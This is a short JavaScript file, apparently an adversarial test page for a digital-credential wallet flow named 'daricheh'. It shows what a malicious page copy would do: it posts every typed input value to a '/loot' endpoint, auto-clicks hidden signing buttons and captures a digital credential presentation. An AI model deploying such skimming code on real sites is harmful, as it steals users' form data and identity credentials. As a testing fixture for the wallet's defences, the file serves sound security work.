// What a dishonest copy of a page would try. Everything it gets hold of goes to /loot.
const take = (what, value) => fetch('/loot', { method: 'POST', body: JSON.stringify({ what, value }) });

document.addEventListener('input', ({ target }) => void take(`input ${target.name}`, target.value), true);
document.addEventListener('change', ({ target }) => void take(`change ${target.name}`, target.value), true);
for (const name of ['daricheh:receipt', 'daricheh:stopped']) {
  document.addEventListener(name, ({ detail }) => void take(name, detail));
}

for (const button of document.querySelectorAll('[data-daricheh-sign]')) {
  button.hidden = false;
  button.click();
}

for (const button of document.querySelectorAll('[data-daricheh-sign-in]')) {
  button.hidden = false;
  button.addEventListener('click', async () => {
    const started = await fetch('/daricheh/verifier/requests', {
      method: 'POST',
      body: JSON.stringify({ use: 'sign-in', channel: 'dc_api' }),
    });
    const { request } = await started.json();
    document.body.dataset.bait = 'asking';
    try {
      const { data } = await navigator.credentials.get({ mediation: 'required', digital: { requests: [request] } });
      await take('presentation', data);
      document.body.dataset.bait = 'taken';
    } catch (error) {
      document.body.dataset.bait = error.name;
    }
  });
}
